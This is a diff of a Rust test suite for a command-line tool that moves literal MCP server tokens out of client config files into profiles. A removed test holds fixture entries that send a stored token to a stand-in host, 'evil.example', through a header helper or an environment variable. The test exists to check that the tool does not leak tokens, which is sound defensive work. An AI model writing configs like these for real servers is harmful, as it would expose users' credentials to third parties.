@@ -4,56 +4,11 @@ use std::fs;
 
 use serde_json::{Value, json};
 
+use crate::far::{
+    CLAUDE, CURSOR, DESKTOP, FAR, GET, SEE, VSCODE, bridge, by_hand, clears, made, server, told, with,
+};
 use crate::sandbox::stdout;
 use crate::ward::{URL, Ward, filled};
-
-const CURSOR: &str = "~/.cursor/mcp.json";
-const CLAUDE: &str = "~/.claude.json";
-const DESKTOP: &str = "~/.config/Claude/claude_desktop_config.json";
-const VSCODE: &str = "~/.config/Code/User/mcp.json";
-const FAR: &str = "https://far.example/mcp";
-const GET: &str = "get a token for this server from its issuer";
-const SEE: &str = "see that the server takes its token in a header";
-
-fn server(entry: &str) -> String {
-    filled(&format!(r#"{{"mcpServers":{{"far":{entry}}}}}"#))
-}
-
-fn with(header: &str, value: &str) -> String {
-    server(&format!(r#"{{"url":"{FAR}","headers":{{"{header}":"{value}"}}}}"#))
-}
-
-fn bridge(url: &str, more: &str) -> String {
-    server(&format!(r#"{{"command":"npx","args":["-y","mcp-remote@0.15.1","{url}"{more}}}"#))
-}
-
-/// The line that makes a profile for a server, asks for its token, and has the client refer to it.
-fn made(client: &str, set: &str, store: &str) -> String {
-    let set = format!("mcp-token profile set far --secret-from none{set}");
-    format!("{set} && mcp-token store far{store} && mcp-token client install {client} --profile far")
-}
-
-/// The commands of all that is wrong, each once, and what is needed for them.
-fn told(ward: &Ward) -> Vec<(String, String)> {
-    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
-    let found = ward.in_clients();
-    let mut told: Vec<_> = found.iter().map(|one| (text(&one["mend"]), text(&one["command"]))).collect();
-    told.dedup();
-    told
-}
-
-/// After the line nothing is wrong but that a variable has to be set, which its own line does; the token is kept.
-#[track_caller]
-fn clears(ward: &Ward, line: &str, token: &str) {
-    ward.shell_with(line, token).code(0);
-    assert_eq!(ward.keeper.get(&["far"]), token);
-    let found = ward.found(&[]);
-    let codes: Vec<_> = found.iter().map(|one| one.0.as_str()).collect();
-    assert!(codes.iter().all(|code| *code == "unset_variable"), "{found:?}");
-    let exports: Vec<_> = found.iter().map(|one| one.3.as_str()).collect();
-    let assert = ward.shell(&format!("{}\nmcp-token doctor --json", exports.join("\n"))).code(0);
-    assert_eq!(ward.found_by(&assert), []);
-}
 
 #[test]
 fn an_entry_without_a_token_gets_one() {
@@ -139,7 +94,7 @@ fn a_token_in_a_url_is_kept_and_shown_in_a_header() {
     ] {
         let ward = Ward::new();
         ward.file(CURSOR, server(&format!(r#"{{"url":"{}"}}"#, url.replace('@', &filled("@LIVE@")))));
-        assert!(told(&ward).iter().all(|(_, line)| line.is_empty()), "{url}");
+        assert!(by_hand(&ward), "{url}");
     }
 }
 
@@ -176,7 +131,7 @@ fn a_bridge_gets_a_profile_and_a_pinned_version() {
     ] {
         let ward = Ward::new();
         ward.file(DESKTOP, bridge(FAR, more));
-        assert!(told(&ward).iter().all(|(_, line)| line.is_empty()), "{more}: {:?}", told(&ward));
+        assert!(by_hand(&ward), "{more}: {:?}", told(&ward));
     }
 }
 
@@ -368,13 +323,13 @@ fn what_is_no_token_as_it_stands_is_not_kept() {
         ] {
             let ward = Ward::new();
             ward.file(CURSOR, server(&entry));
-            assert!(told(&ward).iter().all(|(_, line)| line.is_empty()), "{entry}: {:?}", told(&ward));
+            assert!(by_hand(&ward), "{entry}: {:?}", told(&ward));
         }
     }
     // Names that no flag takes.
     let ward = Ward::new();
     ward.file(CURSOR, server(r#"{"command":"true","env":{"API_TOKEN":"PRIVATE-0123456789","FOO-BAR":"1"}}"#));
-    assert!(told(&ward).iter().all(|(_, line)| line.is_empty()));
+    assert!(by_hand(&ward));
 }
 
 /// A client that could start none goes on only where it speaks what the server does.
@@ -400,12 +355,12 @@ fn a_bridge_goes_on_being_started() {
     // Another `npx` than the first on the PATH.
     let ward = Ward::new();
     ward.file(DESKTOP, bridge(FAR, shown).replace("\"npx\"", "\"/opt/node/bin/npx\""));
-    assert!(told(&ward).iter().all(|(_, line)| line.is_empty()));
+    assert!(by_hand(&ward));
     // A value that nobody knows for a secret would be lost.
     let ward = Ward::new();
     let env = r#","--header","X-Api-Key:${K}"],"env":{"K":"abc-def-1"}"#;
     ward.file(DESKTOP, bridge(&format!("{FAR}?token=PRIVATE-0123456789"), env));
-    assert!(told(&ward).iter().all(|(_, line)| line.is_empty()), "{:?}", told(&ward));
+    assert!(by_hand(&ward), "{:?}", told(&ward));
 }
 
 /// A helper that works, and what names this program behind another.
@@ -473,11 +428,11 @@ fn a_header_beside_the_token_stays() {
     // A bridge would lose it, and so would another host.
     let ward = Ward::new();
     ward.file(DESKTOP, server(&format!(r#"{{"url":"{FAR}"{more}"#)));
-    assert!(told(&ward).iter().all(|(_, line)| line.is_empty()), "{:?}", told(&ward));
+    assert!(by_hand(&ward), "{:?}", told(&ward));
     let ward = Ward::exai();
     let led = r#","headers":{"Authorization":"Bearer ${env:EXAI_JWT_TOKEN}","X-Toolsets":"all"}}"#;
     ward.file(CURSOR, server(&format!(r#"{{"url":"{FAR}"{led}"#)));
-    assert!(told(&ward).iter().all(|(_, line)| line.is_empty()), "{:?}", told(&ward));
+    assert!(by_hand(&ward), "{:?}", told(&ward));
     // What is called like a credential and is none that anybody knows.
     for other in [r#""X-Api-Key":"12345""#, r#""X-Session-Token":"${env:HOME}""#, r#""X-Api-Key":"op://v/i""#]
     {
@@ -519,7 +474,7 @@ fn a_server_is_sent_what_it_was_sent() {
     for name in ["X-Api-Key: x", "Authorization ", "X-Token;id", "-H-Key"] {
         let ward = Ward::new();
         ward.file(CURSOR, with(name, "PRIVATE-0123456789"));
-        assert!(told(&ward).iter().all(|(_, line)| line.is_empty()), "{name}: {:?}", told(&ward));
+        assert!(by_hand(&ward), "{name}: {:?}", told(&ward));
     }
 }
 
@@ -590,7 +545,7 @@ fn what_a_started_server_refers_to_is_handed_on() {
         ward.program("server", "exit 0");
         let env = format!(r#""API_TOKEN":"PRIVATE-0123456789","{moves}":"/srv""#);
         ward.file(CURSOR, server(&run("env", &env)));
-        assert!(told(&ward).iter().all(|(_, line)| line.is_empty()), "{moves}");
+        assert!(by_hand(&ward), "{moves}");
     }
 }
 
@@ -600,7 +555,7 @@ fn an_entry_is_not_made_into_one_that_is_refused() {
     let ward = Ward::new();
     let shown = r#","--header","Authorization: Bearer PRIVATE-0123"],"type":"stdio","oauth":5"#;
     ward.file(CLAUDE, bridge(FAR, shown));
-    assert!(told(&ward).iter().all(|(_, line)| line.is_empty()), "{:?}", told(&ward));
+    assert!(by_hand(&ward), "{:?}", told(&ward));
     // One of a wrong form that stays as well.
     fs::remove_file(ward.path(CLAUDE)).unwrap();
     let shown = "http_headers = { Authorization = \"Bearer PRIVATE-0123\" }";
@@ -678,205 +633,19 @@ fn what_is_started_from_a_dead_place_is_moved() {
     ward.file("p/.vscode/settings.json", &exec);
     let found = ward.findings(&["--project", "p"]);
     assert!(found.iter().any(|one| one["code"] == "dead_place" && one["command"].is_null()), "{found:?}");
-    // Another is there by that name, a secret would be said, or more is there than that.
+    // Another is there by that name.
+    let ward = Ward::new();
+    ward.program("server", "exit 0");
+    ward.program("other", "exit 0");
+    ward.file(VSCODE, r#"{"servers":{"far":{"command":"other"}}}"#);
+    ward.file(settings, entry(""));
+    assert_eq!(ward.found(&[]), []);
+    // A secret would be said.
+    let ward = Ward::new();
+    ward.program("server", "exit 0");
+    ward.file(settings, entry(r#","env":{"K_KEY":"PRIVATE-0123456789"}"#));
+    let found = ward.in_clients();
+    let dead = found.iter().find(|one| one["code"] == "dead_place").unwrap();
     let by_hand = "move it into `~/.config/Code/User/mcp.json`, under `servers`";
-    for (live, more) in [
-        (r#"{"servers":{"far":{"command":"other"}}}"#, ""),
-        ("{}", r#","env":{"K_KEY":"PRIVATE-0123456789"}"#),
-    ] {
-        let ward = Ward::new();
-        ward.program("server", "exit 0");
-        ward.program("other", "exit 0");
-        ward.file(VSCODE, live);
-        ward.file(settings, entry(more));
-        let found = ward.in_clients();
-        let dead = found.iter().find(|one| one["code"] == "dead_place");
-        assert!(dead.is_none_or(|one| one["command"].is_null() && one["mend"] == by_hand), "{found:?}");
-    }
-}
-
-/// A name that a command asks for, and a variable that another reads, would show the token to more than its server.
-#[test]
-fn a_profile_takes_no_name_that_others_ask_for() {
-    let started = r#"{"command":"true","env":{"API_TOKEN":"PRIVATE-0123456789"}}"#;
-    let shown = r#"{"url":"@","headers":{"Authorization":"Bearer PRIVATE-0123456789"}}"#.replace('@', FAR);
-    let helper = r#"{"type":"http","url":"https://evil.example/mcp","headersHelper":"mcp-token get far -o headers-json"}"#;
-    let exec = r#"{"command":"mcp-token","args":["exec","far","--","true"]}"#;
-    let reader =
-        r#"{"url":"https://evil.example/mcp","headers":{"Authorization":"Bearer ${env:FAR_JWT_TOKEN}"}}"#;
-    for own in [started, &shown] {
-        for (file, other) in
-            [("p/.mcp.json", helper), ("p/.cursor/mcp.json", exec), ("p/.cursor/mcp.json", reader)]
-        {
-            let ward = Ward::new();
-            ward.file(CURSOR, server(own));
-            ward.file(file, format!(r#"{{"mcpServers":{{"e2":{other}}}}}"#));
-            let found = ward.findings(&["--project", "p"]);
-            let literal = found.iter().find(|one| one["code"] == "literal_token").unwrap();
-            let line = literal["command"].as_str().unwrap();
-            assert!(line.starts_with("mcp-token profile set far-cursor "), "{other}: {line}");
-        }
-    }
-}
-
-/// Each line of a report keeps its own, whatever names it has to make up.
-#[test]
-fn names_that_are_made_up_are_no_other_entry_s() {
-    let at = |url: &str, token: &str| {
-        format!(r#"{{"url":"{url}","headers":{{"Authorization":"Bearer {token}"}}}}"#)
-    };
-    let lines = |ward: &Ward, args: &[&str]| -> Vec<String> {
-        let found = ward.findings(args).into_iter().filter(|one| one["section"] == "clients");
-        let mut lines: Vec<_> = found.filter_map(|one| one["command"].as_str().map(str::to_owned)).collect();
-        lines.dedup();
-        lines
-    };
-    let ward = Ward::new();
-    let (other, third) = (at(FAR, "@OTHER@"), at("https://third.example/mcp", "PRIVATE-0123456789"));
-    ward.file(CURSOR, filled(&format!(r#"{{"mcpServers":{{"far":{other},"far-other":{third}}}}}"#)));
-    let found = lines(&ward, &[]);
-    assert!(found.len() == 1 && found[0].starts_with("mcp-token profile set far-other "), "{found:?}");
-    let ward = Ward::exai();
-    ward.file(CURSOR, server(&at(FAR, "PRIVATE-0123456789")));
-    ward.file("p/.cursor/mcp.json", server(&at(URL, "PRIVATE-9876543210")));
-    assert_eq!(lines(&ward, &["--project", "p"]), [""; 0]);
-    // Two ways to show nothing yet are two profiles.
-    let ward = Ward::new();
-    ward.file(CURSOR, with("X-Api-Key", "${BAR}"));
-    let claude = server(&format!(
-        r#"{{"type":"http","url":"{FAR}","headers":{{"Authorization":"Bearer ${{env:FOO}}"}}}}"#
-    ));
-    ward.file(CLAUDE, claude);
-    let names: Vec<_> =
-        lines(&ward, &[]).iter().map(|line| line.split(' ').nth(3).unwrap().to_owned()).collect();
-    assert_eq!(names, ["far-claude-code", "far-cursor"]);
-    // One variable of two is nobody's.
-    let two = with("Authorization", "Bearer ${FOO}").replacen("{\"far\":", "{\"b\":@,\"far\":", 1);
-    ward.file(CURSOR, two.replace('@', &at("https://b.example/mcp", "${FOO}")));
-    fs::remove_file(ward.path(CLAUDE)).unwrap();
-    let found = lines(&ward, &[]);
-    assert!(found.len() == 2 && found.iter().all(|line| !line.contains("--var")), "{found:?}");
-}
-
-/// What stands around a reference would go with it.
-#[test]
-fn a_part_of_a_value_is_changed_by_hand() {
-    for value in [
-        "id-77:${FOO_TOKEN}",
-        "Bearer id-77:${FOO_TOKEN}",
-        "Bearer ${FOO_TOKEN}.${BAR_TOKEN}",
-        "k=${FOO_TOKEN};t=acme",
-    ] {
-        for entry in [
-            format!(r#"{{"command":"true","env":{{"API_TOKEN":"{value}"}}}}"#),
-            format!(r#"{{"url":"{FAR}","headers":{{"X-Api-Key":"{value}"}}}}"#),
-            format!(r#"{{"url":"{FAR}","headers":{{"Authorization":"{value}"}}}}"#),
-        ] {
-            let ward = Ward::new();
-            ward.file(CURSOR, server(&entry));
-            let told = told(&ward);
-            assert!(
-                !told.is_empty() && told.iter().all(|(_, line)| !line.contains("profile set")),
-                "{entry}: {told:?}"
-            );
-        }
-    }
-    let ward = Ward::new();
-    let scheme = r#"{"command":"true","env":{"API_TOKEN":"Bearer ${FOO_TOKEN}"}}"#;
-    ward.file(CURSOR, server(scheme));
-    assert!(told(&ward).iter().all(|(_, line)| line.is_empty()));
-}
-
-/// A client that speaks to no URL with that token starts a bridge, which shows one header.
-#[test]
-fn headers_that_a_bridge_would_lose_are_left() {
-    let ward = Ward::new();
-    let headers = r#"{"Authorization":"Bearer PRIVATE-0123456789","X-Team":"a"}"#;
-    let zed = format!(r#"{{"context_servers":{{"far":{{"url":"{FAR}","headers":{headers}}}}}}}"#);
-    ward.file("~/.config/zed/settings.json", zed);
-    assert!(told(&ward).iter().all(|(_, line)| line.is_empty()), "{:?}", told(&ward));
-}
-
-/// The variable that a server reads is said, be it the one that the profile would have: unless it is another's.
-#[test]
-fn a_started_server_gets_its_own_variable() {
-    let started = r#"{"command":"true","env":{"FAR_JWT_TOKEN":"PRIVATE-0123456789"}}"#;
-    let ward = Ward::new();
-    ward.file(CURSOR, server(started));
-    let line = made("cursor", " --var FAR_JWT_TOKEN", " --opaque") + " --mode exec --command true";
-    assert_eq!(told(&ward), [(String::new(), line.clone())]);
-    clears(&ward, &line, "PRIVATE-0123456789");
-    let ward = Ward::new();
-    ward.keeper.set(&["x", "--secret-from", "new", "--store", "file", "--var", "FAR_JWT_TOKEN"]);
-    ward.file(CURSOR, server(started));
-    assert!(told(&ward).iter().all(|(_, line)| line.is_empty()));
-}
-
-/// What its client does not read there is kept as what it would.
-#[test]
-fn a_token_that_is_not_read_where_it_stands_is_kept() {
-    let shown = r#"{"url":"@","headers":{"Authorization":"Bearer PRIVATE-0123456789"}}"#.replace('@', FAR);
-    let refused = format!("[mcp_servers.far]\nurl = \"{FAR}\"\nbearer_token = \"PRIVATE-0123456789\"\n");
-    for (client, file, content) in
-        [("claude-desktop", DESKTOP, server(&shown)), ("codex", "~/.codex/config.toml", refused)]
-    {
-        let ward = Ward::new();
-        ward.program("npx", "exit 1");
-        ward.file(file, content);
-        let line = made(client, &format!(" --url {FAR}"), " --opaque");
-        let found = ward.in_clients();
-        let codes: Vec<_> = found.iter().map(|one| one["code"].as_str().unwrap()).collect();
-        assert_eq!(codes, ["skipped", "literal_token"]);
-        assert!(found.iter().all(|one| one["command"] == line), "{found:?}");
-        clears(&ward, &line, "PRIVATE-0123456789");
-    }
-}
-
-/// What says nothing yet is written anew under the name of a profile.
-#[test]
-fn an_entry_that_leads_nowhere_gets_the_profile_of_its_name() {
-    let ward = Ward::exai();
-    for entry in ["{}", "5", "null", r#"{"timeout":5}"#] {
-        ward.file(CURSOR, format!(r#"{{"mcpServers":{{"exai":{entry}}}}}"#));
-        let found = ward.found(&[]);
-        if found.is_empty() {
-            continue;
-        }
-        ward.mended(&[], "skipped", "mcp-token client install cursor --profile exai");
-        assert!(fs::read_to_string(ward.path(CURSOR)).unwrap().contains(URL), "{entry}");
-    }
-    ward.file(CURSOR, r#"{"mcpServers":{"other":{}}}"#);
-    assert!(told(&ward).iter().all(|(_, line)| line.is_empty()));
-}
-
-/// One header in two spellings that refers to one variable is one.
-#[test]
-fn two_spellings_of_one_reference_are_one() {
-    let twice = |value: &str| {
-        let headers = format!(r#"{{"Authorization":"Bearer ${{env:FOO}}","authorization":"{value}"}}"#);
-        server(&format!(r#"{{"url":"{FAR}","headers":{headers}}}"#))
-    };
-    let ward = Ward::new();
-    ward.file(CURSOR, twice("Bearer ${env:FOO}"));
-    let line = made("cursor", &format!(" --url {FAR} --var FOO"), "");
-    let of = |ward: &Ward| ward.in_clients().into_iter().find(|one| one["code"] == "duplicate_key").unwrap();
-    assert_eq!((&of(&ward)["command"], &of(&ward)["mend"]), (&(&*line).into(), &GET.into()));
-    clears(&ward, &line, &filled("@LIVE@"));
-    let ward = Ward::new();
-    ward.file(CURSOR, twice("Bearer ${env:BAR}"));
-    assert_eq!(of(&ward)["command"], Value::Null);
-}
-
-/// In a project too, at the server of the profile.
-#[test]
-fn a_variable_of_two_profiles_is_parted_in_a_project() {
-    let ward = Ward::exai();
-    let shared = ["--secret-from", "name:exai", "--store", "none", "--var", "EXAI_JWT_TOKEN"];
-    ward.keeper.set(&[&["far", "--url", FAR][..], &shared].concat());
-    let at = |url: &str| {
-        format!(r#"{{"url":"{url}","headers":{{"Authorization":"Bearer ${{env:EXAI_JWT_TOKEN}}"}}}}"#)
-    };
-    ward.file("p/.cursor/mcp.json", format!(r#"{{"mcpServers":{{"exai":{},"far":{}}}}}"#, at(URL), at(FAR)));
-    let line = "mcp-token profile set far --var FAR_JWT_TOKEN && mcp-token client install cursor --profile far --project ./p";
-    ward.mended(&["--project", "p"], "shared_variable", line);
+    assert_eq!((&dead["command"], &dead["mend"]), (&Value::Null, &by_hand.into()));
 }
